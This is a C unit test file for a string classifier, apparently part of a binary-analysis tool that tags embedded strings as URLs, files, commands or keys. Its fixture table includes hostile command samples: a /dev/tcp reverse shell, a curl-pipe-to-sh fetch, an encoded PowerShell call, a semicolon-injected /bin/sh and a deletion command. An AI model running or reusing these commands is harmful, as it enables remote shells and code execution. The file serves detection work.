/* SPDX-License-Identifier: Apache-2.0 */

#include "anatomy/binary/telling.h"

#include "tap.h"

static const struct {
	const char *run;
	enum string_kind kind;
	const char *text; /* the first of that kind; NULL: nothing at all is found */
} cases[] = {
	{ "https://evil.example/a?b=c", STRING_URL, "https://evil.example/a?b=c" },
	{ "see HTTPS://x.example/y.", STRING_URL, "HTTPS://x.example/y" },
	{ "Hhttp://x.example/", STRING_URL, "http://x.example/" },
	{ "url=\"wss://a.b/c\">", STRING_URL, "wss://a.b/c" },
	{ "http://", STRING_NONE, NULL },
	{ "foo://bar/baz", STRING_NONE, NULL },
	{ "akamaicontainer.com", STRING_URL, "akamaicontainer.com" },
	{ "connect to msstorageazure.com now", STRING_URL, "msstorageazure.com" },
	{ "com.example.net", STRING_NONE, NULL },
	{ "System.Net", STRING_NONE, NULL },
	{ "foo.bar.baz", STRING_NONE, NULL },
	{ "d3dcompiler_47.dll", STRING_FILE, "d3dcompiler_47.dll" },
	{ "%s\\KERNEL32.DLL", STRING_FILE, "%s\\KERNEL32.DLL" },
	{ "load libssl.so.1.1 first", STRING_FILE, "libssl.so.1.1" },
	{ "@rpath/libffmpeg.dylib", STRING_FILE, "@rpath/libffmpeg.dylib" },
	{ "C:\\Windows\\evil.exe", STRING_FILE, "C:\\Windows\\evil.exe" },
	{ "index.node", STRING_FILE, "index.node" },
	{ "Xml.Node", STRING_NONE, NULL },
	{ "readme.so-called", STRING_NONE, NULL },
	{ "...dll", STRING_NONE, NULL },
	{ ".dllfoo", STRING_NONE, NULL },
	{ "file 1.2.3.4", STRING_NONE, NULL },
	{ "powershell -enc SQBFAFgA", STRING_COMMAND, "powershell -enc SQBFAFgA" },
	{ "x; /bin/sh -c 'id'", STRING_COMMAND, "x; /bin/sh -c 'id'" },
	{ "CMD.EXE /C del x", STRING_COMMAND, "CMD.EXE /C del x" },
	{ "curl -s http://a.example/x|sh", STRING_COMMAND, "curl -s http://a.example/x|sh" },
	{ "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", STRING_COMMAND, "bash -i >& /dev/tcp/1.2.3.4/9 0>&1" },
	{ "libcurl -x", STRING_NONE, NULL },
	{ "use curl to get it", STRING_NONE, NULL },
	{ "-----BEGIN RSA PRIVATE KEY-----", STRING_KEY, "-----BEGIN RSA PRIVATE KEY-----" },
	{ "key=3f786850e387550fdab836ed7e6dc881de23001b", STRING_KEY,
	    "3f786850e387550fdab836ed7e6dc881de23001b" },
	{ "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo", STRING_KEY,
	    "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo" },
	{ "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", STRING_NONE, NULL },
	{ "0123456789abcdef0123456789abcdef", STRING_NONE, NULL },
	{ "00000000000000000000000000000000", STRING_NONE, NULL },
	{ "ThisIsAVeryLongMethodNameWithoutAnyOtherMeaning2", STRING_NONE, NULL },
	{ "ZN5boost10filesystem6detail28unique_path", STRING_NONE, NULL },
	{ "/usr/share/doc/usr/share/doc/usr/share/doc/x", STRING_NONE, NULL },
};

static void test_cases(void)
{
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct tellings it = tellings_of(span_str(cases[i].run));
		struct telling t;
		bool found = false;
		while (!found && tellings_next(&it, &t))
			found = t.kind == cases[i].kind || !cases[i].text;
		if (!cases[i].text) {
			ok(!found, "nothing in %s", cases[i].run);
			continue;
		}
		ok(found && span_eq_str(t.text, cases[i].text), "%s in %s",
		    string_kind_name(cases[i].kind), cases[i].run);
		is_int(binary_string_kind(cases[i].text), cases[i].kind, "and it is one by itself");
	}
}

static void test_several(void)
{
	struct tellings it =
	    tellings_of(span_str("wget http://a.example/x.exe http://b.example/ c.dll d.so"));
	struct telling t;
	unsigned n[5] = { 0 };

	while (tellings_next(&it, &t))
		n[t.kind]++;
	ok(n[STRING_COMMAND] == 1 && n[STRING_URL] == 2 && n[STRING_FILE] == 2,
	    "one command, two URLs, two files, and none of them twice");
}

static void test_long(void)
{
	static char run[100000];
	struct telling t;

	memset(run, 'a', sizeof(run) - 1);
	memcpy(run, "http://", 7);
	memcpy(run + 50000, " cmd /c ", 8);
	struct tellings it = tellings_of(span_str(run));
	ok(tellings_next(&it, &t) && t.kind == STRING_COMMAND && t.text.n == TELLING_MAX &&
	       span_starts(t.text, SPAN_LIT("cmd /c ")),
	    "a long run is told from where its command begins");
	ok(tellings_next(&it, &t) && t.kind == STRING_URL && t.text.n == TELLING_MAX,
	    "a long URL is cut");
}

int main(void)
{
	test_cases();
	test_several();
	test_long();
	is_str(string_kind_name((enum string_kind)99), "none", "no kind that is unknown");
	return tap_done();
}
